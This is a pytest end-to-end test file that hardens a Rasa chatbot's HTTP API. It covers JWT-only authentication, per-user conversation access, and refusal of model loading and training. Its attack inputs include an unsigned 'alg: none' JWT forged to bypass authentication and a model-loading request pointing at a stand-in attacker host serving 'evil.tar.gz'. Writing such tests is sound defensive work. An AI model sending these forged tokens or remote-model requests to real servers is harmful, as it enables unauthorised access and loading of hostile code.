"""Rasa's HTTP API against a real server: JWT only (never a token in the URL), Rasa's
scopes, and no model loading, training or testing for anyone (bot/server/http_api.py)."""

from __future__ import annotations

import base64
import json
import subprocess
import time
import uuid

import jwt
import pytest
import requests

from tests.servers import MODEL, ROOT, VENV_BIN, make_jwt, server_env

pytestmark = pytest.mark.e2e


def _unsigned(payload: dict) -> str:
    """A JWT with ``alg: none`` and no signature."""

    def part(data: dict) -> str:
        return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()

    return f"{part({'alg': 'none', 'typ': 'JWT'})}.{part(payload)}."


def _admin_payload(lifetime: float = 3600) -> dict:
    return {"user": {"username": "x", "role": "admin"}, "exp": int(time.time() + lifetime)}


def _bad_credentials(secret: str) -> dict:
    """Every way of calling without a valid JWT: name -> (headers, params)."""
    return {
        "nothing": ({}, {}),
        "secret as ?token=": ({}, {"token": secret}),
        "secret as bearer": ({"Authorization": f"Bearer {secret}"}, {}),
        "wrong key": ({"Authorization": f"Bearer {make_jwt('not-the-secret-' * 3)}"}, {}),
        "expired": ({"Authorization": f"Bearer {make_jwt(secret, lifetime=-600)}"}, {}),
        "alg none": ({"Authorization": f"Bearer {_unsigned(_admin_payload())}"}, {}),
        "HS512 with the secret": (
            {"Authorization": f"Bearer {jwt.encode(_admin_payload(), secret, algorithm='HS512')}"},
            {},
        ),
    }


def test_status_and_trackers_need_a_valid_jwt(bot):
    for name, (headers, params) in _bad_credentials(bot.token).items():
        for path in ("/status", "/conversations/someone/tracker", "/domain"):
            response = requests.get(f"{bot.url}{path}", headers=headers, params=params, timeout=10)
            assert response.status_code == 401, (name, path, response.status_code)
    admin = {"Authorization": f"Bearer {make_jwt(bot.token)}"}
    status = requests.get(f"{bot.url}/status", headers=admin, timeout=10)
    assert status.status_code == 200 and status.json()["model_file"]


def test_a_user_jwt_reads_only_its_own_conversation(bot):
    sender = f"jwt-{uuid.uuid4().hex[:8]}"
    bot.send(sender, "what is a nerve block")
    own = {"Authorization": f"Bearer {make_jwt(bot.token, username=sender, role='user')}"}
    response = requests.get(f"{bot.url}/conversations/{sender}/tracker", headers=own, timeout=10)
    assert response.status_code == 200 and response.json()["sender_id"] == sender
    other = requests.get(f"{bot.url}/conversations/somebody-else/tracker", headers=own, timeout=10)
    assert other.status_code == 403
    assert requests.get(f"{bot.url}/status", headers=own, timeout=10).status_code == 403


MODEL_CALLS = [
    ("PUT", "/model", {"model_file": "https://attacker.example/evil.tar.gz"}),
    ("PUT", "/model", {"model_file": str(MODEL)}),
    ("DELETE", "/model", None),
    ("POST", "/model/train", {"domain": "x"}),
    ("POST", "/model/test/stories", None),
    ("POST", "/model/test/intents", None),
    ("PUT", "/model/", {"model_file": str(MODEL)}),
    ("POST", "/model/train/", {}),
]


@pytest.mark.parametrize("method, path, body", MODEL_CALLS)
def test_model_management_is_refused_to_everyone(bot, method, path, body):
    """The CVE-2024-49375 class: loading, replacing, unloading or training a model
    over HTTP. Refused without, with a wrong, expired or unsigned JWT, and with a
    valid admin JWT too."""
    attempts = {
        **_bad_credentials(bot.token),
        "valid admin": ({"Authorization": f"Bearer {make_jwt(bot.token)}"}, {}),
    }
    for name, (headers, params) in attempts.items():
        response = requests.request(
            method, f"{bot.url}{path}", headers=headers, params=params, json=body, timeout=30
        )
        assert response.status_code in (401, 403), (name, response.status_code, response.text[:200])
    status = requests.get(
        f"{bot.url}/status", headers={"Authorization": f"Bearer {make_jwt(bot.token)}"}, timeout=10
    )
    assert status.json()["model_file"], "the model is still loaded"
    assert bot.texts(f"after-model-{uuid.uuid4().hex[:6]}", "what is a nerve block"), "and still answers"


def test_the_server_refuses_to_start_with_a_token_in_the_url(tmp_path):
    """The real CLI, stopped before it loads anything."""
    result = subprocess.run(
        [str(VENV_BIN / "rasa"), "run", "-m", str(MODEL), "--port", "1", "--enable-api"]
        + ["--auth-token", "abc", "--endpoints", str(ROOT / "endpoints.yml")],
        cwd=ROOT,
        env=server_env(RASA_JWT_SECRET="j" * 40),
        capture_output=True,
        text=True,
        timeout=240,
    )
    assert result.returncode != 0
    assert "Refusing --auth-token" in result.stdout + result.stderr
